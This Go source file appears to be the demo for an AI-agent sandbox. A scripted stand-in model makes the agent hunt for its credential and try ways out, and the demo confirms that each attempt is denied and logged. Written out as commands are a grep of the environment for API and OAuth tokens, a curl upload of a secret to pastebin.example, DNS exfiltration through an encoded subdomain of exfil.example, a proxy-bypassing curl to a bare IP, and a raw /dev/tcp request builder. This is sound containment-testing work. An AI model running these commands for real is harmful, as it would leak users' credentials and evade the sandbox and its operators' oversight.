package demo

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"strings"
	"sync"

	"github.com/claude-bottle/claude-bottle/internal/audit"
	"github.com/claude-bottle/claude-bottle/internal/inert"
	"github.com/claude-bottle/claude-bottle/internal/launch"
	"github.com/claude-bottle/claude-bottle/internal/plan"
	"github.com/claude-bottle/claude-bottle/internal/standin"
	"github.com/claude-bottle/claude-bottle/internal/warden/client"
)

// prompt is what the operator asks; the stand-in answers it act by act.
const prompt = "Look around: which credential do you hold, and which ways out can you find?"

// closing is the model's last word; seeing it means that the reply came through interception.
const closing = "I hold a worthless placeholder, and every way out but the model's is shut."

// act is one thing the agent does on the model's word.
type act struct {
	title   string
	command string
	// proof must stand in the command's output, or the seal did not hold.
	proof string
	// event picks the audit line that explains the act to the operator; nil for none.
	event func(audit.Event) bool
	// bare marks an act that a narrow network ends by itself: its kernel has no way to a bare address,
	// and the warden hears nothing of it.
	bare bool
}

// The places the agent tries. None of them exists for it; the address is in no allowlist.
const (
	unlistedHost = "pastebin.example"
	secretName   = "c2VjcmV0.exfil.example"
	bareAddress  = "93.184.216.34"
)

// play is the acts in order. Where the host has no curl, bash asks: it opens TCP connections by
// itself (/dev/tcp).
func play(curl bool) []act {
	upload := "curl -sS 'http://" + unlistedHost + "/upload?q=secret'"
	bare := "curl -sS --noproxy '*' http://" + bareAddress + "/"
	if !curl {
		upload = ask("127.0.0.1/3128", "GET http://"+unlistedHost+"/upload?q=secret HTTP/1.1", unlistedHost)
		bare = ask(bareAddress+"/80", "GET / HTTP/1.1", bareAddress)
	}
	return []act{{
		title:   "Which credential does the agent hold?",
		command: "env | grep -E '^(" + credentialVar + "|CLAUDE_CODE_OAUTH_TOKEN)='",
		proof:   credentialVar + "=",
	},
		{
			title:   "A host nobody listed, through the proxy",
			command: upload,
			proof:   "denied",
			event:   func(e audit.Event) bool { return e.Host == unlistedHost },
		},
		{
			title:   "A secret in a DNS name",
			command: "getent hosts " + secretName + " || echo \"exit $?: no such name\"",
			proof:   "no such name",
			event:   func(e audit.Event) bool { return e.Kind == audit.KindDNS && e.Host == secretName },
		},
		{
			title:   "A bare address, past every proxy",
			command: bare,
			proof:   "denied",
			event:   func(e audit.Event) bool { return e.Addr == bareAddress || e.Host == bareAddress },
			bare:    true,
		}}
}

// ask is a shell command that sends one HTTP request to bash's address and prints the answer.
func ask(address, request, host string) string {
	return `exec 3<>/dev/tcp/` + address + ` && printf '%s\r\n' '` + request + `' 'Host: ` + host + `' 'Connection: close' '' >&3 && timeout 5 cat <&3`
}

// stage remembers what the agent's commands printed.
type stage struct {
	mu      sync.Mutex
	outputs map[int]string
}

// script makes the model play the acts and then say the closing words.
func (s *show) script() standin.Script {
	return func(c standin.Conversation) standin.Turn {
		s.stage.mu.Lock()
		defer s.stage.mu.Unlock()
		if c.Step > 0 && c.Step <= len(s.acts) && len(c.Results) > 0 {
			s.stage.outputs[c.Step-1] = c.Results[0]
		}
		if c.Step < len(s.acts) {
			return standin.Turn{Text: s.acts[c.Step].title, Commands: []string{s.acts[c.Step].command}}
		}
		return standin.Turn{Text: closing}
	}
}

// watch waits for the agent's end and keeps what it said.
func (s *show) watch(ctx context.Context, h *launch.Handle) error {
	status, err := h.Client.Status(ctx)
	if err != nil {
		return err
	}
	s.narrow = status.Report.Narrow
	var out, errs bytes.Buffer
	result, err := h.Client.Attach(ctx, client.AttachOptions{Stdout: &out, Stderr: &errs})
	if err != nil {
		return err
	}
	if result.Exit == nil {
		return errors.New("the agent's session ended without an exit code")
	}
	s.said = out.String()
	if !s.agent {
		s.shellOutputs(out.String())
	}
	if result.Exit.Code != 0 {
		return fmt.Errorf("the agent ended with exit code %d: %s", result.Exit.Code, inert.Text(out.String()+errs.String(), 2000))
	}
	return nil
}

// tell shows act by act what the agent did, what it saw, and what the operator sees of it.
func (s *show) tell(h *launch.Handle, p plan.Plan) error {
	events, err := auditOf(h)
	if err != nil {
		return err
	}
	var failed []string
	for i, a := range s.acts {
		if a.bare && s.narrow {
			a.proof, a.event = "onnect", nil // however a program says that it could not
		}
		s.title(fmt.Sprintf("%d. %s", i+1, a.title))
		s.say(s.Paint("dim", "agent   $ ") + a.command)
		output, ok := s.stage.outputs[i]
		s.indent(inert.Lines(output, 2000))
		if !ok || !strings.Contains(output, a.proof) {
			failed = append(failed, a.title)
			s.say(s.Paint("bad", "this is not what a sealed bottle answers"))
		}
		if a.bare && s.narrow {
			s.say(s.Paint("dim", "operator  ") + "nothing to decide: this bottle's kernel has no way to an address without a name")
		}
		if a.event == nil {
			continue
		}
		if e, ok := find(events, a.event); ok {
			s.say(s.Paint("dim", "operator  ") + s.Paint("bad", e.Verdict) + " " + inert.Text(e.Why, 300))
		} else {
			failed = append(failed, a.title+" (no audit line)")
		}
	}
	if err := s.tellCredential(p); err != nil {
		failed = append(failed, err.Error())
	}
	s.title(fmt.Sprintf("%d. The model's reply, through interception", len(s.acts)+2))
	s.indent(inert.Lines(s.said, 2000))
	if want := s.reply(); !strings.Contains(s.said, want) {
		failed = append(failed, "the model's reply did not arrive")
	}
	if len(failed) > 0 {
		return fmt.Errorf("the demo did not show what it promises: %s", strings.Join(failed, "; "))
	}
	return nil
}

// reply is what the model answers last.
func (s *show) reply() string {
	if s.agent {
		return closing
	}
	return standin.Greeting // the shell offers the model no tool, so no script speaks
}

// tellCredential shows that the stand-in saw the real credential and the bottle did not.
func (s *show) tellCredential(p plan.Plan) error {
	s.title(fmt.Sprintf("%d. The credential the model's API saw", len(s.acts)+1))
	real, fake := 0, 0
	for _, r := range s.api.Seen() {
		switch {
		case r.Credential.Reveal() == s.key.Reveal():
			real++
		case !r.Credential.Empty():
			fake++
		}
	}
	s.say(fmt.Sprintf("Requests with the real key: %d. With anything else: %d.", real, fake))
	for _, route := range p.Routes {
		if route.Auth != nil {
			s.say("In the bottle it is " + s.Paint("code", route.Auth.Placeholder) + ", worth nothing anywhere else.")
			break
		}
	}
	s.stage.mu.Lock()
	defer s.stage.mu.Unlock()
	for _, output := range s.stage.outputs {
		if strings.Contains(output, s.key.Reveal()) {
			return errors.New("the real credential was seen inside the bottle")
		}
	}
	if real == 0 || fake > 0 {
		return errors.New("the credential was not injected")
	}
	return nil
}

func find(events []audit.Event, match func(audit.Event) bool) (audit.Event, bool) {
	for _, e := range events {
		if match(e) {
			return e, true
		}
	}
	return audit.Event{}, false
}
